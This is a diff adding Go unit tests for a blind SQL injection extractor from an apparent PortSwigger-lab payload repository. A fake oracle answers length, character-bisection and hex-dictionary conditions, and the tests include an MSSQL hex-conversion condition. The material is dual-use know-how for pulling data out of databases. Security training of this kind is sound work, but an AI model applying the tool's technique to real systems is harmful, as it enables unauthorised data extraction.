@@ -0,0 +1,245 @@
+package sqli
+
+import (
+	"fmt"
+	"math/bits"
+	"regexp"
+	"strconv"
+	"strings"
+	"sync"
+	"testing"
+	"unicode/utf8"
+
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/constant"
+)
+
+// testDialect has short functions the fake questioner can parse.
+var testDialect = constant.Database{
+	Name:              "Test",
+	SubstringFunction: "SUBSTR",
+	LengthFunction:    "LEN(%s)",
+	CodePointFunction: "CP(%s)",
+	HexFunction:       "HEX(%s)",
+	CastFunction:      "STR(%s)",
+}
+
+var (
+	lengthQuestion     = regexp.MustCompile(`^LEN\(v\)>(\d+)$`)
+	codePointQuestion  = regexp.MustCompile(`^CP\(SUBSTR\(v,(\d+),1\)\)([>=])(\d+)$`)
+	dictionaryQuestion = regexp.MustCompile(`^HEX\(STR\(v\)\) IN \((.*)\)$`)
+	dictionaryLiteral  = regexp.MustCompile(`HEX\(STR\('((?:[^']|'')*)'\)\)`)
+)
+
+// fakeQuestioner answers the questions a BlindExtractor asks about the expression "v" as a
+// database using testDialect would, with v holding value. It is safe for parallel use.
+type fakeQuestioner struct {
+	value []rune
+
+	mu        sync.Mutex
+	questions int
+}
+
+func newFakeQuestioner(value string) *fakeQuestioner {
+	return &fakeQuestioner{value: []rune(value)}
+}
+
+func (f *fakeQuestioner) Name() string {
+	return "fake"
+}
+
+func (f *fakeQuestioner) Ask(condition string) (bool, error) {
+	f.mu.Lock()
+	f.questions++
+	f.mu.Unlock()
+
+	if match := lengthQuestion.FindStringSubmatch(condition); match != nil {
+		n, _ := strconv.Atoi(match[1])
+		return len(f.value) > n, nil
+	}
+	if match := codePointQuestion.FindStringSubmatch(condition); match != nil {
+		position, _ := strconv.Atoi(match[1])
+		n, _ := strconv.Atoi(match[3])
+		code := 0
+		if position <= len(f.value) {
+			code = int(f.value[position-1])
+		}
+		if match[2] == ">" {
+			return code > n, nil
+		}
+		return code == n, nil
+	}
+	if match := dictionaryQuestion.FindStringSubmatch(condition); match != nil {
+		for _, literal := range dictionaryLiteral.FindAllStringSubmatch(match[1], -1) {
+			if strings.ReplaceAll(literal[1], "''", "'") == string(f.value) {
+				return true, nil
+			}
+		}
+		return false, nil
+	}
+	return false, fmt.Errorf("unexpected question %q", condition)
+}
+
+func newTestExtractor(t *testing.T, questioner Questioner) *BlindExtractor {
+	t.Helper()
+	extractor, err := NewBlindExtractor(questioner, testDialect)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return extractor
+}
+
+func TestExtractLength(t *testing.T) {
+	tests := []struct {
+		name    string
+		length  int
+		wantErr bool
+	}{
+		{"empty", 0, false},
+		{"one character", 1, false},
+		{"at the first guess", constant.BLIND_LENGTH_GUESS, false},
+		{"above the first guess", constant.BLIND_LENGTH_GUESS + 1, false},
+		{"odd", 77, false},
+		{"at the maximum", constant.MAX_BLIND_LENGTH, false},
+		{"above the maximum", constant.MAX_BLIND_LENGTH + 1, true},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			questioner := newFakeQuestioner(strings.Repeat("x", test.length))
+			length, err := newTestExtractor(t, questioner).ExtractLength("v")
+			if test.wantErr {
+				if err == nil {
+					t.Fatalf("got length %d, want an error", length)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			if length != test.length {
+				t.Errorf("got length %d, want %d", length, test.length)
+			}
+		})
+	}
+}
+
+func TestExtractChar(t *testing.T) {
+	// Bisecting the charset, plus the equality check and one question to leave it when needed
+	likelyQuestions := bits.Len(uint(len(constant.BLIND_CHARSET))) + 2
+
+	tests := []struct {
+		name   string
+		char   rune
+		likely bool
+	}{
+		{"lower case", 'a', true},
+		{"upper case", 'Z', true},
+		{"digit", '7', true},
+		{"space", ' ', true},
+		{"tilde", '~', true},
+		{"first code point", '\x01', false},
+		{"punctuation outside of the charset", '!', false},
+		{"two bytes", 'é', false},
+		{"three bytes", '✓', false},
+		{"four bytes", '𝄞', false},
+		{"last code point", utf8.MaxRune, false},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			questioner := newFakeQuestioner(string(test.char))
+			char, err := newTestExtractor(t, questioner).extractChar("v", 1)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if char != test.char {
+				t.Errorf("got %q, want %q", char, test.char)
+			}
+			if test.likely && questioner.questions > likelyQuestions {
+				t.Errorf("took %d questions, want at most %d for a character of the charset", questioner.questions, likelyQuestions)
+			}
+		})
+	}
+}
+
+func TestExtractString(t *testing.T) {
+	tests := []struct {
+		name    string
+		value   string
+		workers int
+	}{
+		{"ascii", "administrator", 1},
+		{"ascii in parallel", "administrator", 4},
+		{"multibyte", "päss ✓𝄞", 1},
+		{"multibyte in parallel", "päss ✓𝄞", 3},
+		{"more workers than characters", "ab", 8},
+		{"empty", "", 2},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			extractor := newTestExtractor(t, newFakeQuestioner(test.value))
+			extractor.Workers = test.workers
+			value, err := extractor.ExtractString("v")
+			if err != nil {
+				t.Fatal(err)
+			}
+			if value != test.value {
+				t.Errorf("got %q, want %q", value, test.value)
+			}
+		})
+	}
+}
+
+func TestMatchDictionary(t *testing.T) {
+	dictionary := []string{"users", "admin", "root", "o'neil", "admin", "password"}
+
+	tests := []struct {
+		name      string
+		value     string
+		want      string
+		found     bool
+		questions int // Expected questions, -1 to not check
+	}{
+		{"first word", "users", "users", true, -1},
+		{"last word", "password", "password", true, 1},
+		{"quoted word", "o'neil", "o'neil", true, -1},
+		{"other case", "Admin", "", false, 1},
+		{"not a word", "guest", "", false, 1},
+		{"no word of the length", "administrator", "", false, 0},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			questioner := newFakeQuestioner(test.value)
+			extractor := newTestExtractor(t, questioner)
+			extractor.Dictionary = dictionary
+			word, found, err := extractor.matchDictionary("v", utf8.RuneCountInString(test.value))
+			if err != nil {
+				t.Fatal(err)
+			}
+			if word != test.want || found != test.found {
+				t.Errorf("got %q, %t, want %q, %t", word, found, test.want, test.found)
+			}
+			if test.questions >= 0 && questioner.questions != test.questions {
+				t.Errorf("took %d questions, want %d", questioner.questions, test.questions)
+			}
+		})
+	}
+}
+
+func TestMatchDictionaryCastsBothSides(t *testing.T) {
+	// On MSSQL the hex of an nvarchar column only equals the hex of a literal cast to nvarchar too
+	questioner := conditionQuestioner{
+		"CONVERT(varchar(max),CONVERT(varbinary(max),CAST(name AS nvarchar(max))),2) IN (" +
+			"CONVERT(varchar(max),CONVERT(varbinary(max),CAST('root' AS nvarchar(max))),2))": true,
+	}
+	extractor, err := NewBlindExtractor(questioner, constant.MSSQL)
+	if err != nil {
+		t.Fatal(err)
+	}
+	extractor.Dictionary = []string{"root"}
+	word, found, err := extractor.matchDictionary("name", 4)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if word != "root" || !found {
+		t.Errorf("got %q, %t, want \"root\", true", word, found)
+	}
+}